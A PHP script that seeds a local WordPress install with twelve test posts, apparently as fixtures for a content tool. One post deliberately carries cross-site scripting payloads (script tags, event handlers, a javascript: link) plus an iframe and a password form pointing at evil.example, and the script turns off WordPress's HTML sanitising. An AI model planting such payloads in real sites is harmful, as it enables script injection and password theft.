<?php
// Sets up a fresh WordPress and fills it with twelve posts for a try on this machine (docs/writing-content.md):
//   php examples/wordpress/fill.php /path/to/wordpress
// One post holds what an attacker or a careless editor might leave in it, one names a picture that does not exist.
define('WP_INSTALLING', true);
require rtrim($argv[1], '/') . '/wp-load.php';
require_once ABSPATH . 'wp-admin/includes/upgrade.php';
require_once ABSPATH . 'wp-admin/includes/taxonomy.php';

// As an administrator, who may write scripts; for everybody else WordPress takes them out itself.
kses_remove_filters();
if (!is_blog_installed()) wp_install('Lanewise', 'editor', 'editor@example.com', true, '', wp_generate_password(24));
update_option('permalink_structure', '/%postname%/');
update_option('timezone_string', 'UTC');
flush_rewrite_rules();
wp_delete_post(1, true);

$us = wp_insert_category(['cat_name' => 'United States', 'category_nicename' => 'us']);
$faq = wp_insert_category(['cat_name' => 'Questions', 'category_nicename' => 'us-faq']);
$license = wp_insert_category(['cat_name' => 'The license', 'category_nicename' => 'license', 'category_parent' => $us]);
$group = wp_insert_category(['cat_name' => 'The test', 'category_nicename' => 'the-test', 'category_parent' => $faq]);

$hostile = <<<'HTML'
<h1>A heading of the editor</h1>
<p onclick="alert(1)" style="position:fixed">Before the <script>document.title = 'owned'</script>script.</p>
<img src="x" onerror="alert(2)"><iframe src="https://evil.example/"></iframe>
<iframe src="https://www.youtube.com/embed/abc123"></iframe>
<style>body { display: none }</style><a href="javascript:alert(3)">A link</a>
<form action="https://evil.example/"><input name="password"></form><h2>After the script</h2><p>Text.</p>
HTML;
$broken = '<p>Text above.</p><figure><img src="http://127.0.0.1:8099/wp-content/uploads/nothing.jpg" alt="A car" width="800" height="600"></figure><p>Text below.</p>';
for ($number = 1; $number <= 12; $number++) {
  $isFaq = $number > 10;
  $text = $number === 3 ? $hostile : ($number === 4 ? $broken : "<h2>Part one</h2><p>Text of post $number. " . str_repeat('Words for readers. ', 60) . '</p>');
  $id = wp_insert_post([
    'post_title' => $number === 3 ? 'A post with a <script>alert(4)</script> script' : ($isFaq ? "Is this question $number?" : "Guide number $number"),
    'post_name' => $isFaq ? "question-$number" : "guide-$number",
    'post_content' => $text,
    'post_excerpt' => "What post $number is about, in one sentence that search engines show.",
    'post_status' => 'publish',
    'post_author' => 1,
    'post_date' => sprintf('2026-11-%02d 08:00:00', $number),
    'post_category' => $isFaq ? [$faq, $group] : [$us, $license],
  ], true);
  if (is_wp_error($id)) { fwrite(STDERR, $id->get_error_message() . "\n"); exit(1); }
}
echo "12 posts\n";
